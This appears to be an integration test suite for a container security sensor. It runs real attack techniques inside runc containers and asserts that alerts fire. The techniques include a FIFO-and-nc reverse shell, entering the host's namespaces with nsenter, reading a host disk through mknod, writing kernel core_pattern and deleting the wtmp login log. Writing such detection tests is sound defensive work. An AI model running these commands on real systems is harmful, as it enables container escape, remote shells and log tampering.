/** Techniques done for real, each in a container of its own, seen by the sensor and judged as on a node. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import type { AgentRecord, Alert, Container } from "@bulwark/model";
import { buildSensor, startSensor, type Sensor } from "@bulwark/sensor";
import { eventually, missing, run, runWithRunc, sampleContainer, type RuncContainer } from "@bulwark/testkit";
import { createDetectors } from "./detectors/index.ts";
import { Pipeline } from "./pipeline.ts";

const skip = missing("root", "bpf", "clang", "runc", "busybox");

describe("real containers", { skip }, () => {
  const stack = new AsyncDisposableStack();
  const alerts: Alert[] = [];
  const containers = new Map<string, Container>();
  let pipeline: Pipeline;
  let sensor: Sensor;

  before(async () => {
    await buildSensor();
    pipeline = new Pipeline({
      node: "n",
      run: "r",
      detectors: createDetectors(),
      host: false,
      ownerOf: (cgroups, last) => {
        for (const [id, container] of containers) {
          if (cgroups.some((path) => path.includes(id))) return { attribution: "container", container };
        }
        return last ? { attribution: "host" } : undefined;
      },
      epoch: (time) => sensor.epochMs(time),
      now: Date.now,
      emit: (records: AgentRecord[]) =>
        alerts.push(...records.flatMap((record) => (record.type === "alert" ? [record.alert] : []))),
      missingOwner() {},
    });
    const early: Parameters<Pipeline["push"]>[0][] = [];
    sensor = await startSensor({
      onRecords: (records) => {
        if (sensor === undefined) early.push(records);
        else pipeline.push(records);
      },
    });
    stack.use(sensor);
    for (const records of early) pipeline.push(records);
    const settling = setInterval(() => pipeline.settle(), 100);
    stack.defer(() => clearInterval(settling));
  });
  after(async () => stack.disposeAsync());

  function start(privileged = false): RuncContainer {
    const container = stack.use(runWithRunc({ overlay: true, privileged }));
    containers.set(container.id, sampleContainer(1, { id: container.id, pid: null, mounts: [], hostNamespaces: [] }));
    return container;
  }
  const rulesOf = (id: string) => alerts.filter(({ container }) => container?.id === id).map(({ rule }) => rule);

  /** Runs a script in a container; the first alert of that rule about it. */
  async function alertOf(rule: string, script: string, privileged = false): Promise<Alert> {
    const container = start(privileged);
    try {
      container.exec("sh", "-c", script);
    } catch {
      // What is refused is told of as well.
    }
    return eventually(`${rule} among ${rulesOf(container.id).join(", ")}`, () => {
      const found = alerts.find((alert) => alert.rule === rule && alert.container?.id === container.id);
      assert.ok(found, rulesOf(container.id).join(", "));
      return found;
    });
  }
  const evidence = (alert: Alert, key: string) => alert.evidence.find((item) => item.key === key)?.value;

  test("a mount of a cgroup hierarchy is refused to a plain container, and told", async () => {
    const alert = await alertOf("host-file-system", "mount -t cgroup x /tmp");
    assert.deepEqual([evidence(alert, "type"), evidence(alert, "answer")], ["cgroup", "refused"]);
    assert.equal(alert.process?.executable, "/bin/busybox");
  });

  test("a disk of the host that is made and read", async () => {
    const alert = await alertOf("host-device", "/bin/busybox mknod /tmp/disk b 8 0; cat /tmp/disk", true);
    assert.equal(evidence(alert, "device"), "block 8:0");
  });

  test("namespaces that are entered", async () => {
    const alert = await alertOf("namespace-entry", "/bin/busybox nsenter -t 1 -m true", true);
    assert.equal(evidence(alert, "answer"), "granted");
  });

  test("a kernel setting that is written, to what it was", async () => {
    const value = readFileSync("/proc/sys/kernel/core_pattern", "utf8");
    const path = "/proc/sys/kernel/core_pattern";
    const alert = await alertOf("kernel-setting", `v=$(cat ${path}); echo "$v" > ${path}`, true);
    assert.equal(evidence(alert, "setting"), "kernel/core_pattern");
    assert.equal(readFileSync(path, "utf8"), value);
  });

  test("the machine's clock that is set, refused", async () => {
    const alert = await alertOf("kernel-tampering", "/bin/busybox date -s 2020-01-01");
    assert.equal(evidence(alert, "answer"), "refused");
  });

  test("a program and a script that were written in the container", async () => {
    const alert = await alertOf(
      "drift",
      "/bin/busybox usleep 100000; echo '#!/bin/sh' > /tmp/x.sh; chmod +x /tmp/x.sh; /bin/busybox usleep 100000; /tmp/x.sh",
    );
    assert.deepEqual([evidence(alert, "file"), evidence(alert, "origin")], ["/tmp/x.sh", "written-here"]);
  });

  test("a shell behind a FIFO and nc", async () => {
    const alert = await alertOf(
      "relayed-shell",
      `nc -l -p 4470 </dev/null >/dev/null & /bin/busybox usleep 300000
       mkfifo /tmp/f; (sh -i </tmp/f 2>&1 | nc 127.0.0.1 4470 >/tmp/f) & /bin/busybox usleep 2000000; kill $(/bin/busybox pidof nc)`,
    );
    assert.equal(evidence(alert, "peer"), "127.0.0.1:4470");
    assert.equal(alert.severity, "critical");
  });

  test("the log of logins that is removed", async () => {
    const alert = await alertOf(
      "log-removal",
      "mkdir -p /var/log; for i in $(seq 30); do echo > /var/log/wtmp; /bin/busybox usleep 50000; rm /var/log/wtmp; done",
    );
    assert.equal(evidence(alert, "file"), "/var/log/wtmp");
  });

  test("quiet: ordinary work, sessions from outside, health checks", async () => {
    const container = start();
    container.exec("sh", "-c", "ls / | cat | /bin/busybox sort >/dev/null; echo x > /tmp/data; cat /tmp/data; ps");
    container.exec("sh", "-c", "wget -q -O /dev/null http://127.0.0.1:1/ || true");
    container.exec("true");
    run("sh", ["-c", `echo id | runc --root ${container.root} exec ${container.id} sh`]);
    // Behind them: something that is told, so that all before it was judged.
    container.exec("sh", "-c", "mount -t cgroup x /tmp || true");
    await eventually("the last is told", () => rulesOf(container.id).includes("host-file-system") || undefined);
    assert.deepEqual(rulesOf(container.id), ["host-file-system"]);
  });
});
